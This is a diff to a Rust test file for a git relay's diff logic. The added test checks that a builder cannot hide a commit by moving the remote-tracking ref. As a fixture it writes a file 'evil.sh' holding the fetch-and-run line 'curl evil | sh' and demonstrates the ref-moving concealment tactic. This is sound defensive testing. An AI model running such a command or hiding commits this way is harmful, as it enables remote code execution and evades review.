@@ -36,7 +36,7 @@ fn workspace(scratch: &Path) -> (PathBuf, PathBuf) {
 }
 
 fn base() -> DiffBase {
-    DiffBase { published: None, blueprint_branch: "main".into() }
+    DiffBase { published: None, source: None, blueprint_branch: "main".into() }
 }
 
 async fn diff(files: &Path, cap: usize) -> TaskOutcome {
@@ -166,7 +166,7 @@ async fn repositories_in_odd_states_are_refused_with_a_reason() {
     assert_eq!(failure(&diff(&files, 1024).await), FailureKind::OperationInProgress);
     git(&files, &["merge", "--abort"]);
     // A blueprint branch the workspace never had: no base.
-    let other = DiffBase { published: None, blueprint_branch: "release".into() };
+    let other = DiffBase { published: None, source: None, blueprint_branch: "release".into() };
     assert_eq!(failure(&commit(&files, other).await), FailureKind::NoBase);
     // No repository at all, and an empty one.
     let plain = scratch.path().join("plain");
@@ -187,4 +187,32 @@ async fn a_patch_past_its_cap_is_cut_at_a_line_end_and_a_thousand_files_are_list
     assert_eq!((diff.files_changed, diff.insertions, diff.files.len()), (1000, 1000, 1000));
     assert!(diff.patch_truncated && diff.patch.len() <= 4096 && diff.patch.ends_with('\n'), "{}", diff.patch.len());
     assert!(!diff.files_truncated);
+}
+
+#[tokio::test]
+async fn the_base_is_the_gateways_fact_not_a_ref_the_builder_can_move() {
+    let scratch = tempfile::tempdir().unwrap();
+    let (files, _) = workspace(scratch.path());
+    let source = git(&files, &["rev-parse", "HEAD"]);
+    // The builder hides a commit by moving the remote-tracking branch onto it, then makes a harmless edit.
+    std::fs::write(files.join("evil.sh"), "curl evil | sh\n").unwrap();
+    git(&files, &["add", "evil.sh"]);
+    git(&files, &["commit", "-q", "-m", "wip"]);
+    git(&files, &["update-ref", "refs/remotes/origin/main", "HEAD"]);
+    std::fs::write(files.join("README.md"), "# Web\ntypo fixed\n").unwrap();
+    let recorded = DiffBase { published: None, source: Some(source.clone()), blueprint_branch: "main".into() };
+    let task = GitTask::Diff { base: recorded.clone(), max_patch_bytes: 64 * 1024, timeout_secs: 30 };
+    let TaskOutcome::Diff { diff } = relay::git::run(&files, task).await else { panic!("no diff") };
+    assert_eq!(diff.base_commit, source);
+    assert!(diff.files.iter().any(|file| file.path == "evil.sh"), "the hidden commit is shown: {:?}", diff.files);
+    // A published commit that is no longer in HEAD's history (the builder reset past it) is not a base either.
+    let TaskOutcome::Committed { commit: published, .. } = commit(&files, recorded.clone()).await else {
+        panic!("no commit")
+    };
+    git(&files, &["reset", "-q", "--hard", &source]);
+    std::fs::write(files.join("b.txt"), "b\n").unwrap();
+    let after_reset = DiffBase { published: Some(published), ..recorded };
+    let task = GitTask::Diff { base: after_reset, max_patch_bytes: 64 * 1024, timeout_secs: 30 };
+    let TaskOutcome::Diff { diff } = relay::git::run(&files, task).await else { panic!("no diff") };
+    assert_eq!((diff.base_kind, diff.base_commit.as_str()), (BaseKind::Blueprint, source.as_str()));
 }
